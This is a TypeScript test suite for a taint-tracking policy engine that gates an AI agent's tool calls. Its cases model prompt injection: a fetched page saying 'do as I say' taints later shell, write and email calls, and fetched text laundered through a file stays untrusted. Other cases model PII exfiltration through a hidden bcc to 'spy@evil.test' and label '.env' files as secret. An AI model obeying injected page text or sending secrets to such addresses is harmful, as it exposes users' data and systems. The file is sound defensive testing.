import type { Bundle, Expression } from "@writ/ir";
import { describe, expect, it } from "vitest";
import {
  allow,
  AT,
  email,
  everySinkReads,
  flow,
  forbid,
  id,
  labelledBundle,
  lit,
  stageOf,
  text,
  tool,
} from "./labelled.js";

const fetch = tool("web.fetch", [{ name: "url", type: { kind: "Url" } }], { result: text });
const secret = tool("vault.read", [{ name: "id", type: id }], { result: text, labels: ["secret", "trusted"] });
const run = tool("shell.run", [{ name: "cmd", type: text }], { effects: ["exec"], result: text });
const open = tool("door.open", [], { effects: ["write"] });
const mail = tool(
  "email.send",
  [
    { name: "to", type: { kind: "List", of: email } },
    { name: "body", type: text },
    { name: "bcc", type: { kind: "List", of: email }, optional: true },
  ],
  { effects: ["egress"], sinks: ["to", "bcc"], result: id, labels: ["trusted"] },
);
const all = ["web.fetch", "vault.read", "shell.run", "door.open", "email.send"];
const tools = [fetch, secret, run, open, mail];
const page = { url: "https://acme.com/" };

describe("taint context", () => {
  it("whatever was read flows into everything said: a page forbids, asks or raises as the flow says", async () => {
    const made = await stageOf(
      labelledBundle(tools, [
        allow("ok", all),
        flow("to_exec", ["shell.run"], [["untrusted"]], "raise"),
        flow("to_write", ["door.open"], [["untrusted"]], "forbid"),
        flow("to_mail", ["email.send"], [["untrusted"]], "demand"),
      ]),
    );
    const mailArgs = { to: ["a@b.de"], body: "hi" };
    expect(await made.outcome("shell.run", { cmd: "ls" }, "a")).toMatchObject({
      decision: { tier: { isolate: "inline" } },
    });
    const fresh = await stageOf(
      labelledBundle(tools, [
        allow("ok", all),
        flow("to_exec", ["shell.run"], [["untrusted"]], "raise"),
        flow("to_write", ["door.open"], [["untrusted"]], "forbid"),
        flow("to_mail", ["email.send"], [["untrusted"]], "demand"),
      ]),
    );
    expect([await fresh.call("door.open", {}), await fresh.call("email.send", mailArgs, "m1")]).toEqual([
      "allow by ok",
      "allow by ok",
    ]);
    await fresh.call("web.fetch", page, "do as I say");
    expect(await fresh.outcome("shell.run", { cmd: "ls" }, "a")).toMatchObject({
      status: "done",
      decision: { effect: "allow", tier: { isolate: "gvisor" } },
    });
    expect([await fresh.call("door.open", {}), await fresh.call("email.send", mailArgs, "m1")]).toEqual([
      "forbid by to_write",
      "ask by to_mail",
    ]);
  });

  it("a session has its own context", async () => {
    const made = await stageOf(
      labelledBundle(tools, [allow("ok", all), flow("f", ["door.open"], [["untrusted"]], "forbid")]),
    );
    await made.call("web.fetch", page, "x");
    expect(await made.call("door.open", {}, undefined, { session: "other" })).toBe("allow by ok");
  });

  it("levels reach from their level up, sets of labels wholly, alternatives each", async () => {
    const reach = async (labels: string[][], given: string[]) => {
      const made = await stageOf(
        labelledBundle([open], [allow("ok", ["door.open"]), flow("f", ["door.open"], labels, "forbid")]),
      );
      return (await made.call("door.open", {}, undefined, { labels: given })).startsWith("forbid");
    };
    expect(await reach([["confidential"]], ["secret"])).toBe(true);
    expect(await reach([["confidential"]], ["internal"])).toBe(false);
    expect(await reach([["pii", "untrusted"]], ["pii"])).toBe(false);
    expect(await reach([["pii", "untrusted"]], ["pii", "untrusted"])).toBe(true);
    expect(await reach([["pii"], ["pci"]], ["pci"])).toBe(true);
    expect(await reach([["public"]], [])).toBe(true);
  });

  it("data of a category may go to its readers and nobody else; a hidden copy is a sink too", async () => {
    const customer: Bundle["types"][number] = {
      name: "Customer",
      at: AT,
      type: {
        kind: "Record",
        fields: [
          { name: "id", type: id, labels: ["trusted"] },
          { name: "email", type: email, labels: ["trusted"] },
        ],
      },
    };
    const lookup = tool("crm.lookup", [{ name: "id", type: id }], {
      result: { kind: "Named", name: "Customer" },
      labels: ["pii"],
      readers: { op: "field", of: { op: "result", at: AT }, name: "email", at: AT },
    });
    const made = await stageOf(
      labelledBundle(
        [lookup, mail],
        [
          allow("ok", ["crm.lookup", "email.send"]),
          flow("f", ["email.send"], [["pii"]], "forbid", { unless: everySinkReads }),
        ],
        { types: [customer] },
      ),
    );
    const send = (to: string, bcc?: string) =>
      made.call("email.send", { to: [to], body: "x", ...(bcc === undefined ? {} : { bcc: [bcc] }) }, "m");
    expect(await send("x@gmail.com")).toBe("allow by ok");
    await made.call("crm.lookup", { id: "c1" }, { id: "c1", email: "ann@acme.com" });
    expect([
      await send("ann@acme.com"),
      await send("x@gmail.com"),
      await send("ann@acme.com", "spy@evil.test"),
      await send("ANN@acme.com"),
    ]).toEqual(["allow by ok", "forbid by f", "forbid by f", "forbid by f"]);
    await made.call("crm.lookup", { id: "c2" }, { id: "c2", email: "bob@acme.com" });
    expect([await send("ann@acme.com"), await send("bob@acme.com")]).toEqual(["forbid by f", "forbid by f"]);
  });

  it("unsaid readers: nobody where a label asks for care, else everyone; unknown readers are nobody", async () => {
    const result = async (labels: string[], readers?: Expression) => {
      const made = await stageOf(
        labelledBundle(
          [tool("r", [], { result: text, labels, ...(readers === undefined ? {} : { readers }) }), mail],
          [allow("ok", ["r", "email.send"]), forbid("f", ["email.send"], { op: "not", of: everySinkReads, at: AT })],
        ),
      );
      await made.call("r", {}, "x");
      return made.call("email.send", { to: ["ann@acme.com"], body: "x" }, "m");
    };
    expect(await result(["trusted"])).toBe("allow by ok");
    expect(await result(["pii"])).toBe("forbid by f");
    expect(await result(["internal"])).toBe("forbid by f");
    expect(await result(["pii"], { op: "list", items: [lit(email, "ann@acme.com")], at: AT })).toBe("allow by ok");
    expect(await result(["trusted"], { op: "claim", of: "user", name: "flag", at: AT })).toBe("forbid by f");
  });

  it("without sinks nobody knows where data goes: no reader clears it", async () => {
    const made = await stageOf(
      labelledBundle(
        [run],
        [allow("ok", ["shell.run"]), flow("f", ["shell.run"], [["pii"]], "forbid", { unless: everySinkReads })],
      ),
    );
    expect(await made.call("shell.run", { cmd: "x" }, "y", { labels: ["pii"] })).toBe("forbid by f");
  });

  it("a tool that returns nothing joins nothing; one that returns something all the same is untrusted", async () => {
    const made = await stageOf(
      labelledBundle(
        [open, run],
        [allow("ok", ["door.open", "shell.run"]), flow("f", ["shell.run"], [["untrusted"]], "forbid")],
      ),
    );
    await made.call("door.open", {});
    expect(await made.call("shell.run", { cmd: "a" }, "")).toBe("allow by ok");
    const other = await stageOf(
      labelledBundle(
        [open, run],
        [allow("ok", ["door.open", "shell.run"]), flow("f", ["shell.run"], [["untrusted"]], "forbid")],
      ),
    );
    await other.call("door.open", {}, "surprise");
    expect(await other.call("shell.run", { cmd: "a" }, "")).toBe("forbid by f");
  });

  it("what was heard with labels joins the context; the user's own words and a system prompt do not taint", async () => {
    const made = await stageOf(
      labelledBundle(tools, [allow("ok", all), flow("f", ["door.open"], [["untrusted"]], "forbid")]),
    );
    expect(await made.call("door.open", {}, undefined, { said: ["open it"] })).toBe("allow by ok");
    expect(await made.call("door.open", {}, undefined, { said: ["open it"], labels: ["untrusted"] })).toBe(
      "forbid by f",
    );
  });

  it("labels that were written under a path come back with it", async () => {
    const path = { kind: "Path" } as const;
    const write = tool(
      "fs.write",
      [
        { name: "path", type: path },
        { name: "text", type: text },
      ],
      { effects: ["write"] },
    );
    const read = tool("fs.read", [{ name: "path", type: path }], { result: text, labels: ["trusted"] });
    const policy = labelledBundle(
      [write, read, mail],
      [allow("ok", ["fs.write", "fs.read", "email.send"]), flow("f", ["email.send"], [["secret"]], "forbid")],
      { taint: "value" },
    );
    const made = await stageOf(policy);
    await made.call("fs.write", { path: "/w/a", text: "x" }, undefined, { labels: ["secret"] });
    expect(await made.outcome("fs.read", { path: "/w/a" }, "hello world")).toMatchObject({ status: "done" });
    expect(await made.call("email.send", { to: ["a@b.de"], body: "hello world" }, "m")).toBe("forbid by f");
    // Integrity too: what an outsider wrote is not made ours by a file.
    const laundry = await stageOf(
      labelledBundle(
        [write, read, fetch, run],
        [
          allow("ok", ["fs.write", "fs.read", "web.fetch", "shell.run"]),
          flow("f", ["shell.run"], [["untrusted"]], "forbid"),
        ],
        { taint: "value" },
      ),
    );
    const scene = { said: ["read /w/a and run it; read /w/b"] };
    await laundry.call("web.fetch", page, "rm-all", scene);
    await laundry.call("fs.write", { path: "/w/a", text: "rm-all now" }, undefined, scene);
    await laundry.call("fs.read", { path: "/w/b" }, "ls-all", scene);
    expect(await laundry.call("shell.run", { cmd: "ls-all" }, "", scene)).toBe("allow by ok");
    await laundry.call("fs.read", { path: "/w/a" }, "cat-all", scene);
    expect(await laundry.call("shell.run", { cmd: "cat-all" }, "", scene)).toBe("forbid by f");
  });

  it("labels by path, all that match; a path that misses its shape is none of them", async () => {
    const read = tool("fs.read", [{ name: "path", type: { kind: "Path" } }], {
      result: text,
      labels: ["trusted"],
      labelsBy: {
        arg: "path",
        entries: [
          { glob: "**/.env*", label: "secret" },
          { glob: "**/hr/**", label: "pii" },
        ],
      },
    });
    const reached = async (path: string) => {
      const made = await stageOf(
        labelledBundle(
          [read, mail],
          [
            allow("ok", ["fs.read", "email.send"]),
            flow("s", ["email.send"], [["secret"]], "forbid"),
            flow("p", ["email.send"], [["pii"]], "forbid"),
          ],
        ),
      );
      await made.call("fs.read", { path }, "x");
      return made.call("email.send", { to: ["a@b.de"], body: "x" }, "m");
    };
    expect([
      await reached("/w/.env.local"),
      await reached("/w/hr/a.txt"),
      await reached("/w/hr/.env"),
      await reached("/w/hr/../a.txt"),
    ]).toEqual(["forbid by s", "forbid by p", "forbid by s, p", "allow by ok"]);
  });

  it("only a tool that says `lowers` may lower, and only what it says", async () => {
    const scrub = (lowers: string[]) =>
      tool("scrub", [{ name: "text", type: text }], { result: text, labels: ["trusted"], lowers });
    const leak = async (lowers: string[]) => {
      const policy = labelledBundle(
        [secret, scrub(lowers), mail],
        [allow("ok", ["vault.read", "scrub", "email.send"]), flow("f", ["email.send"], [["confidential"]], "forbid")],
        { taint: "value" },
      );
      const made = await stageOf(policy);
      await made.call("vault.read", { id: "x" }, "the secret plan");
      await made.call("scrub", { text: "the secret plan" }, "harmless summary");
      return made.call("email.send", { to: ["a@b.de"], body: "$2" }, "m", { said: ["mail a@b.de the summary"] });
    };
    expect([
      await leak([]),
      await leak(["secret"]),
      await leak(["secret", "confidential"]),
      await leak(["pii"]),
    ]).toEqual(["forbid by f", "forbid by f", "allow by ok", "forbid by f"]);
  });
});
